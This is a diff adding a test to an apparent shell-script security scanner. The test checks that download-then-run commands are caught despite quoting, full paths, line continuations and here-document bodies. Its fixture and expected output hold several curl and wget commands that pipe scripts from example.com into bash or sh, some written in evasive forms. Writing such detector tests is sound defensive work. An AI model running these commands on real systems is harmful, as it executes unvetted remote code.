@@ -91,3 +91,24 @@ test('shell: a script mvdan rejects is a processing error in its words; the proc
   assert.throws(() => parseShell('echo "unterminated\n'), (error: unknown) => error instanceof ShellSyntaxError && error.line === 1);
   assert.equal(Error.stackTraceLimit, before);
 });
+
+test('shell: statements skipped for speed never hide a finding (quotes, paths, continuations, here-document bodies)', () => {
+  const script = [
+    'echo google going cargo', // 1: "go" inside words, nothing to find
+    "bash -c 'curl -s https://example.com/a.sh|bash'", // 2
+    '/usr/bin/curl -s https://example.com/b.sh | bash', // 3
+    'cu\\', // 4
+    'rl -s https://example.com/c.sh | bash', // 5
+    'cat <<EOF | tee out', // 6
+    '$(wget -qO- https://example.com/d.sh | sh)', // 7
+    'EOF', // 8
+    'NPM.EXE install left-pad', // 9: not npm (npm.exe is not a name npm rules know)
+    '',
+  ].join('\n');
+  assert.deepEqual(found(scan(script)), [
+    '3 downloadThenRun unpinned curl -s https://example.com/a.sh | bash',
+    '3 downloadThenRun unpinned /usr/bin/curl -s https://example.com/b.sh | bash',
+    '4 downloadThenRun unpinned curl -s https://example.com/c.sh | bash',
+    '7 downloadThenRun unpinned wget -qO- https://example.com/d.sh | sh',
+  ]);
+});
